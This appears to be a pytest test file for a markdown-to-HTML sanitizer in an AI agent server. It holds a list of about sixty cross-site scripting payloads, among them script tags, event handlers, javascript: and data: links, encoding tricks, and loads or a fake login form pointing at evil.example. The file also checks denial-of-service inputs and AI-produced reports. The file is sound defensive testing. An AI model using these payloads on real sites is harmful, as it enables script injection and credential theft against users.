"""Markdown from models and pages is shown as HTML in which nothing runs and nothing is loaded."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from api import serving
from hypothesis import given
from hypothesis import strategies as st

from counting import calls
from retinue.server.markdown import LONGEST, to_html
from retinue.testing import ScriptedModel, call
from retinue.tools.base import tool

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x 'onmouseover=alert(1)')",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](y)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` x onclick=alert(1)\ny\n```",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=token><button>Log in</button></form>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div id=app class=approve>x</div>",
    "<x-app-shell>x</x-app-shell>",
    "<template><script>alert(1)</script></template>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=https://ok.example ping=https://evil.example>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a xlink:href=javascript:alert(1)>x</a>",
]
TAGS = {
    *("a", "br", "code", "del", "em", "s", "strong", "blockquote", "div", "hr", "li", "ol", "p", "pre", "ul"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"),
}
ATTRIBUTES = {"href", "title", "rel", "target", "class", "start", "align"}


class Look(HTMLParser):
    """Reads HTML as a browser would, and remembers every tag and attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]


def assert_harmless(html: str) -> None:
    look = Look()
    look.feed(html)
    assert set(look.tags) <= TAGS, html
    for tag, name, value in look.attributes:
        assert name in ATTRIBUTES, html
        if name == "href":
            assert (value or "").startswith(("http://", "https://", "mailto:")), html
        if name == "class":
            assert tag == "code", html
            assert (value or "").startswith("language-"), html
    for tag, name, value in look.attributes:
        if (tag, name) == ("a", "rel"):
            assert "noopener" in (value or "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_nothing_is_loaded(payload: str) -> None:
    for text in (
        payload,
        f"> {payload}",
        f"- {payload}",
        f"**{payload}**",
        f"# {payload}",
        f"x\n\n{payload}\n\ny",
    ):
        assert_harmless(to_html(text))


@given(st.text(max_size=300), st.sampled_from(PAYLOADS))
def test_nothing_runs_whatever_stands_around_it(text: str, payload: str) -> None:
    assert_harmless(to_html(text + payload + text))


def test_what_people_write_looks_as_they_meant_it() -> None:
    assert to_html("**a** *b* `c` ~~d~~") == (
        "<p><strong>a</strong> <em>b</em> <code>c</code> <s>d</s></p>\n"
    )
    assert to_html("```python\nx = '<b>'\n```") == (
        "<pre><code class=\"language-python\">x = '&lt;b&gt;'\n</code></pre>\n"
    )
    assert to_html("[a](https://b.example/?c=d&e=f)") == (
        '<p><a href="https://b.example/?c=d&amp;e=f" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n'
    )
    table = to_html("| a | b |\n|:--|--:|\n| 1 | text-align:left |")
    assert '<th align="left">a</th>' in table
    assert '<td align="right">text-align:left</td>' in table
    assert to_html("3. x\n4. y").startswith('<ol start="3">')


def test_a_path_is_no_link_to_this_server() -> None:
    html = to_html("[app](src/app.py) [out](/api/v1/logout)")
    assert "href" not in html
    assert "app" in html


MARKS = ["[", "[a](\\(", "[a][", "![", "**a ", "_a", "`a ", "<", "<http://a>", "&#x", "|a"]
LINES = ["> ", "- ", "* a\n", "- - - - a\n", "1. a\r", "> a\n\n", "a\n\n", "|a|\n|-|\n", "-\n"]


@pytest.mark.timeout(600)
@pytest.mark.parametrize("piece", [*MARKS, *LINES])
def test_no_text_is_much_work(piece: str) -> None:
    """A report is data: whoever wrote it must not be able to hold up the server. Prose is 0.65 million calls."""
    texts = (piece * count for count in range(LONGEST // len(piece), 0, -500))
    longest = next(text for text in texts if not to_html(text).startswith("<pre>"))
    assert calls(lambda: to_html.__wrapped__(longest)) < 6_000_000


@pytest.mark.parametrize(
    "piece", ["[", "![", "*a", "_a ", "[](", "|a|b|\n|-|-|\n", "[[a\n\n", "* a\n", "- a\n", "1. a\n", "a\n\n"]
)
def test_a_text_that_is_mostly_marks_or_lines_is_shown_plain(piece: str) -> None:
    """It would take more than a second, and a client may send several at once."""
    html = to_html(piece * (59_000 // len(piece)))
    assert html.startswith("<pre>")
    assert html.count("\n") == piece.count("\n") * (59_000 // len(piece)), "all of it is there"


def test_a_long_list_and_long_code_are_rendered() -> None:
    assert to_html("- [a](https://x.example)\n" * 2_000).count("<li>") == 2_000
    code = "    return self.value\n" * 2_000
    assert to_html(f"```python\n{code}```") == f'<pre><code class="language-python">{code}</code></pre>\n'


def test_a_long_text_with_the_marks_of_prose_is_rendered() -> None:
    html = to_html("See **this** and [that](https://x.example), `code` and *more* of it.\n\n" * 850)
    assert html.count("<strong>this</strong>") == 850


def test_a_very_long_text_is_shown_plain() -> None:
    html = to_html("<b>" * 40_000)
    assert html.startswith("<pre>&lt;b&gt;")
    assert len(html) < 500_000


@tool(effect="read")
async def look(what: str) -> str:
    """Look at something."""
    return what


async def test_a_hostile_report_is_harmless_in_every_answer(folder: Path) -> None:
    hostile = "\n\n".join(PAYLOADS[:30]).replace("\x00", "")
    model = ScriptedModel([call("look", what=hostile), hostile])
    async with serving(model, folder, tools=[look]) as api:
        run_id = await api.ask(hostile)
        await api.ended(run_id)
        report = await api.get(f"runs/{run_id}/report")
        assert report["text"] == hostile
        assert_harmless(report["html"])
        assert_harmless((await api.get(f"runs/{run_id}"))["prompt_html"])
        for part in (await api.get(f"runs/{run_id}/transcript"))["parts"]:
            assert_harmless(part["html"] or "")
        for path in (f"runs/{run_id}/report", f"runs/{run_id}/export?format=html"):
            answer = await api("GET", path)
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert "script-src 'self'" in answer.headers["Content-Security-Policy"]
